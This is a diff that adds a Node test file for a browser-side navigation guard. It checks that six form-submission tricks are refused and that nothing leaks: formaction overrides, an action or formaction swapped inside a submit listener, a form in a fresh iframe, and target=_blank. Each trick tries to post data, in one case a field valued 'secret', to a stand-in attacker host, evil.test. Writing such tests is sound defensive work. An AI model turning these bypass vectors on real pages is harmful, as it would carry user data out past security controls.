@@ -1,0 +1,65 @@
+// Navigation sinks: forms, the widget frame's own navigations, links and popups. A navigation
+// that gets through takes the page away, so each vector reports either the guard's refusal or
+// "navigated away", and the servers' log says whether the unlisted origin was reached.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+
+import { OPTIONS, PAGE_CSP, PAGE_HELPERS, assertNothingLeaked, useBrowser } from './helpers.mjs';
+
+const session = useBrowser();
+
+// In the page: `refusal(run)` runs `run()` and resolves with the guard's report of the refusal
+// (`sink blockedURL`), or "no refusal" after 5 s; `body(html)` replaces the page's body.
+const REFUSAL = `
+  window.refusal = (run) => new Promise((resolve) => {
+    const seen = (e) => { document.removeEventListener('widget-guard:violation', seen); resolve(e.detail.sink + ' ' + e.detail.blockedURL); };
+    document.addEventListener('widget-guard:violation', seen);
+    setTimeout(() => resolve('no refusal'), 5000);
+    run();
+  });
+  window.body = (html) => { document.body.innerHTML = html; return document.body.firstElementChild; };`;
+
+/** Each vector in its own page, side by side (one that got through navigates its page away): what each page reported. */
+async function eachInOwnPage(vectors, options = OPTIONS) {
+  const outcomes = await Promise.all(Object.values(vectors).map(async (vector) => {
+    const page = await session.browser.open({ options, csp: PAGE_CSP, afterInstall: PAGE_HELPERS + REFUSAL });
+    const outcome = await page.evaluate(`guardReady.then(() => (${vector})())`).catch((error) => (/destroyed|navigation/i.test(error.message) ? 'navigated away' : error.message));
+    await page.close();
+    return outcome;
+  }));
+  return Object.fromEntries(Object.keys(vectors).map((name, i) => [name, outcomes[i]]));
+}
+
+test('forms: a button\'s formaction, an image input\'s formaction, an action or formaction changed by a later submit listener, a form of a fresh frame, target=_blank → refused; nothing reaches the server (guard)', async () => {
+  const evil = (name) => `https://evil.test/adv-forms/${name}`;
+  const outcomes = await eachInOwnPage({
+    buttonFormaction: `() => refusal(() => body('<form action="https://docs.test/ok" method="post"><button formaction="${evil('button')}">go</button></form>').querySelector('button').click())`,
+    imageInputFormaction: `() => refusal(() => body('<form action="https://docs.test/ok" method="post"><input type="image" formaction="${evil('image-input')}"></form>').querySelector('input').click())`,
+    // The browser reads the action after the submit event: the guard's check at submit can be stale.
+    actionChangedAfterCheck: `() => refusal(() => {
+      const form = body('<form action="https://docs.test/ok" method="post"><input name="q" value="secret"></form>');
+      form.addEventListener('submit', () => { form.action = '${evil('changed-action')}'; });
+      form.requestSubmit();
+    })`,
+    formactionChangedAfterCheck: `() => refusal(() => {
+      const form = body('<form action="https://docs.test/ok" method="post"><button>go</button></form>');
+      form.addEventListener('submit', (e) => e.submitter.setAttribute('formaction', '${evil('changed-formaction')}'));
+      form.querySelector('button').click();
+    })`,
+    freshFrameForm: `() => refusal(() => {
+      const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
+      frame.document.body.innerHTML = '<form action="${evil('frame-form')}" method="post" target="_top"></form>';
+      frame.HTMLFormElement.prototype.requestSubmit.call(frame.document.forms[0]);
+    })`,
+    targetBlank: `() => refusal(() => body('<form action="${evil('target-blank')}" method="post" target="_blank"></form>').requestSubmit())`,
+  });
+  assertNothingLeaked('adv-forms');
+  assert.deepEqual(outcomes, {
+    buttonFormaction: `form-submit ${evil('button')}`,
+    imageInputFormaction: `form-submit ${evil('image-input')}`,
+    actionChangedAfterCheck: `navigation ${evil('changed-action')}`,
+    formactionChangedAfterCheck: `navigation ${evil('changed-formaction')}`,
+    freshFrameForm: `form-submit ${evil('frame-form')}`,
+    targetBlank: `form-submit ${evil('target-blank')}`,
+  });
+});
